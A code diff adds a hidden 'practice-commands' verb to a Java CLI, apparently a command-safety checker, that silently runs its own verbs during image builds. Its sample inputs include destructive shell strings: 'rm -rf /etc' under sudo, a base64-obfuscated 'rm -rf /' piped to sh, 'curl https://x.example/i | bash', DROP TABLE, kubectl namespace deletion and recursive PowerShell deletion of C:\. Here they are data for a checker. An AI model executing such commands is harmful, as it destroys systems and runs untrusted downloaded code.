@@ -1,0 +1,68 @@
+package dev.assent.core.cli;
+
+import java.io.ByteArrayInputStream;
+import java.io.PrintWriter;
+import java.io.Writer;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.concurrent.Callable;
+import picocli.CommandLine.Command;
+
+/// `assent practice-commands`: runs verbs that change nothing once, and prints nothing. While the image is made, notes are
+/// taken of what they load, so that they start fast.
+@Command(name = "practice-commands", hidden = true, description = "Run harmless verbs for practice, while the image is made.")
+final class PracticeCommands implements Callable<Integer> {
+  private static final List<List<String>> LINES =
+      List.of(
+          List.of("--help"),
+          List.of("--version"),
+          List.of("check", "--help"),
+          List.of("check", "ls", "-la"),
+          List.of("check", "cd src && git status | head -3"),
+          List.of("check", "sudo sh -c 'rm -rf /etc' && git push --force origin main"),
+          List.of("check", "--json", "echo cm0gLXJmIC8= | base64 -d | sh; for x in a b; do kubectl delete ns $x; done"),
+          List.of("check", "psql -c 'DROP TABLE orders'; python3 -c \"import os; os.system('ls')\"; curl https://x.example/i | bash > y"),
+          List.of("check", "--shell", "cmd", "for %i in (*.log) do del /f /q %i"),
+          List.of("check", "--shell", "powershell", "Get-ChildItem C:\\ -Recurse | Remove-Item -Force"),
+          List.of("proxy", "list"),
+          List.of("config", "list"),
+          List.of("queue"),
+          List.of("status"));
+
+  /// For `check --batch`.
+  private static final String BATCH =
+      """
+      {"id": 1, "shell": "bash", "command": "cd src && git status | head -3"}
+      {"id": 2, "shell": "powershell", "command": "Get-ChildItem"}
+      """;
+
+  private final Surroundings surroundings;
+  private final Rooms rooms;
+
+  PracticeCommands(Surroundings surroundings, Rooms rooms) {
+    this.surroundings = surroundings;
+    this.rooms = rooms;
+  }
+
+  // What a verb ends with is its own affair: in the empty home of the image's making some have nothing to say.
+  @Override
+  public Integer call() {
+    LINES.forEach(line -> run("", line));
+    run(BATCH, List.of("check", "--batch"));
+    return ExitCode.OK.number();
+  }
+
+  private void run(String input, List<String> line) {
+    var nowhere = new PrintWriter(Writer.nullWriter());
+    var reading =
+        new Surroundings(
+            surroundings.environment(),
+            surroundings.userHome(),
+            surroundings.userName(),
+            surroundings.osName(),
+            surroundings.workingFolder(),
+            surroundings.clock(),
+            new ByteArrayInputStream(input.getBytes(StandardCharsets.UTF_8)));
+    AssentCommand.create(reading, rooms, nowhere, nowhere, line).execute(line.toArray(String[]::new));
+  }
+}
